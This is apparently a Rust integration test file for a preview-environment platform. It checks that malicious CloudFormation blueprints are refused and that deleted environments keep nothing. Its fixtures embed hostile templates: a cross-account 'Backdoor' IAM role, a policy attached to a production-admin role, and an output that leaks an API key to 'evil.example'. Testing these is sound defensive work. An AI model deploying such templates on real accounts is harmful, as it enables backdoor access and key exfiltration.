//! Containment against the emulator: a repository blueprint that reaches outside its
//! environment leaves the environment FAILED with every reason, creates no stack, and changes
//! nothing outside; one that retains what it makes is deployed to keep nothing.

use ephemera_domain::Status;
use ephemera_tests::fixtures::*;
use ephemera_tests::Platform;

const STACK: &str = "ephemera-pr-7-acme-todo-app-6acfdc9491";
const REPO_BLUEPRINT: &str = "blueprints/acme/todo-app.yaml";

async fn with_blueprint(p: &Platform, source: &str) {
    let store = ephemera_aws::S3Store::new(p.clients.s3().clone());
    store.put_text(&p.config.shared.bucket, REPO_BLUEPRINT, source).await.unwrap();
}

/// Opens the pull request; its environment fails with the blueprint's violations.
async fn refused(p: &Platform) -> Vec<String> {
    p.deliver("pull_request", "d-open", OPENED).await;
    let env = p.wait_for(ENVIRONMENT, Status::Failed).await;
    let reason = env.status_reason.unwrap_or_default();
    assert!(reason.starts_with(&format!("blueprint {REPO_BLUEPRINT}: ")), "{reason}");
    let stacks = p.clients.cloudformation().list_stacks().send().await.unwrap();
    assert!(stacks.stack_summaries().is_empty(), "no stack call was made: {:?}", stacks.stack_summaries());
    reason.lines().skip(1).map(str::to_owned).collect()
}

fn iam(p: &Platform) -> aws_sdk_iam::Client {
    aws_sdk_iam::Client::new(p.clients.sdk())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_role_trusted_by_an_outside_account_is_refused_and_never_created() {
    let p = Platform::start().await;
    with_blueprint(
        &p,
        "Resources:
  Backdoor:
    Type: AWS::IAM::Role
    DeletionPolicy: Retain
    Properties:
      RoleName: !Sub ${AWS::StackName}-backdoor
      AssumeRolePolicyDocument:
        Statement:
          - { Effect: Allow, Principal: { AWS: 'arn:aws:iam::999999999999:root' }, Action: sts:AssumeRole }
      Policies:
        - PolicyName: everything
          PolicyDocument:
            Statement:
              - { Effect: Allow, Action: 'dynamodb:*', Resource: 'arn:aws:dynamodb:*:*:table/ephemera-pr-*' }
",
    )
    .await;
    let reasons = refused(&p).await;
    assert_eq!(reasons.len(), 2, "{reasons:#?}");
    assert!(
        reasons[0]
            .starts_with("Backdoor (AWS::IAM::Role): trust: the role trusts AWS \"arn:aws:iam::999999999999:root\""),
        "{reasons:#?}"
    );
    assert!(
        reasons[1].starts_with(
            "Backdoor (AWS::IAM::Role): reference outside the environment: statement #1: Resource points at account *"
        ),
        "{reasons:#?}"
    );
    let roles = iam(&p).list_roles().send().await.unwrap();
    assert!(roles.roles().iter().all(|r| !r.role_name().contains("backdoor")), "no role was created");
    p.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_key_on_an_api_that_is_not_the_environments_is_refused_and_the_api_is_untouched() {
    let p = Platform::start().await;
    let appsync = p.clients.appsync();
    let production = appsync
        .create_graphql_api()
        .name("production")
        .authentication_type(aws_sdk_appsync::types::AuthenticationType::ApiKey)
        .send()
        .await
        .unwrap();
    let api_id = production.graphql_api().unwrap().api_id().unwrap().to_owned();
    with_blueprint(
        &p,
        &format!(
            "Resources:
  Key:
    Type: AWS::AppSync::ApiKey
    Properties: {{ ApiId: {api_id} }}
Outputs:
  PreviewUrl:
    Value: !Sub 'https://evil.example/?key=${{Key.ApiKey}}'
"
        ),
    )
    .await;
    let reasons = refused(&p).await;
    assert_eq!(reasons.len(), 2, "{reasons:#?}");
    assert!(
        reasons[0].starts_with(&format!(
            "Key (AWS::AppSync::ApiKey): reference outside the environment: ApiId points at \"{api_id}\""
        )),
        "{reasons:#?}"
    );
    assert!(reasons[1].starts_with("PreviewUrl (Output): preview URL:"), "{reasons:#?}");
    let keys = appsync.list_api_keys().api_id(&api_id).send().await.unwrap();
    assert!(keys.api_keys().is_empty(), "no key was minted on the foreign API: {:?}", keys.api_keys());
    p.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_policy_on_a_role_outside_the_template_is_refused_and_the_role_is_untouched() {
    let p = Platform::start().await;
    let iam = iam(&p);
    iam.create_role()
        .role_name("production-admin")
        .assume_role_policy_document(r#"{"Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}"#)
        .send()
        .await
        .unwrap();
    with_blueprint(
        &p,
        "Resources:
  Files:
    Type: AWS::S3::Bucket
  Escalate:
    Type: AWS::IAM::Policy
    Properties:
      PolicyName: preview-access
      Roles: [production-admin]
      PolicyDocument:
        Statement:
          - { Effect: Allow, Action: 's3:GetObject', Resource: !Sub '${Files.Arn}/*' }
",
    )
    .await;
    let reasons = refused(&p).await;
    assert_eq!(
        reasons,
        ["Escalate (AWS::IAM::Policy): policy attachment: attaches to role \"production-admin\", which is not in this template: attach policies only to this template's roles (!Ref <Role>)"]
    );
    let inline = iam.list_role_policies().role_name("production-admin").send().await.unwrap();
    let attached = iam.list_attached_role_policies().role_name("production-admin").send().await.unwrap();
    assert!(
        inline.policy_names().is_empty() && attached.attached_policies().is_empty(),
        "the foreign role has no new policy"
    );
    p.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_amplify_style_backend_keeps_nothing_after_its_pull_request_closes() {
    let p = Platform::start().await;
    with_blueprint(&p, include_str!("../fixtures/amplify-backend.yaml")).await;
    p.deliver("pull_request", "d-open", OPENED).await;
    let env = p.wait_for(ENVIRONMENT, Status::Ready).await;
    let dynamodb = p.clients.dynamodb();
    let tables = dynamodb.list_tables().send().await.unwrap().table_names().to_vec();
    let ours: Vec<&String> = tables.iter().filter(|t| t.starts_with(STACK)).collect();
    assert_eq!(ours.len(), 2, "both tables created: {tables:?}");
    assert_eq!(env.outputs.get("TodoTableName").map(String::as_str), Some(format!("{STACK}-Todo").as_str()));
    let note = env.outputs.get("EphemeraPolicyRewrites").cloned().unwrap_or_default();
    assert!(note.contains("TodoTable DeletionPolicy Retain to Delete"), "the rewrite is reported: {note:?}");

    // The emulator honours DeletionPolicy: Retain, so what survives here would survive on AWS.
    // (It skips the Cognito and AppSync resources, and cannot GetAtt them: the fixture uses
    // Ref where AWS would accept either.)
    p.deliver("pull_request", "d-close", CLOSED).await;
    p.wait_for(ENVIRONMENT, Status::Deleted).await;
    let tables = dynamodb.list_tables().send().await.unwrap().table_names().to_vec();
    assert!(tables.iter().all(|t| !t.starts_with(STACK)), "no table retained: {tables:?}");
    let logs = p.clients.cloudformation().list_stacks().send().await.unwrap();
    assert!(logs.stack_summaries().iter().all(|s| s.stack_status().map(|s| s.as_str()) == Some("DELETE_COMPLETE")));
    p.stop().await;
}

/// With a role to act as, every stack change is made in the environment's own session (whose
/// tag the role's rights are scoped by); reads stay with the function's own credentials.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stacks_are_changed_in_their_environments_session() {
    let role = "arn:aws:iam::123456789012:role/ephemera-environments";
    let (p, proxy) = Platform::start_faulty(&[("EPHEMERA_ENVIRONMENT_ROLE_ARN", role)], 1).await;
    p.deliver("pull_request", "d-open", OPENED).await;
    p.wait_for(ENVIRONMENT, Status::Ready).await;
    p.deliver("pull_request", "d-close", CLOSED).await;
    p.wait_for(ENVIRONMENT, Status::Deleted).await;
    let stats = proxy.stats();
    let key = |what: &str| stats.signed_by.get(&format!("{what} {STACK}")).cloned().unwrap_or_default();
    let (create, delete, describe) = (key("CreateStack"), key("DeleteStack"), key("DescribeStacks"));
    // The emulator's STS hands out temporary keys (ASIA...); the platform's own are not.
    assert!(create.starts_with("ASIA") && delete == create, "changed in the session: {create:?} {delete:?}");
    assert!(!describe.is_empty() && describe != create, "read with the function's own credentials: {describe:?}");
    assert_eq!(
        stats.succeeded.get("AssumeRole ").copied(),
        Some(1),
        "one session, reused: {:?}",
        stats.succeeded.keys()
    );
    p.stop().await;
}
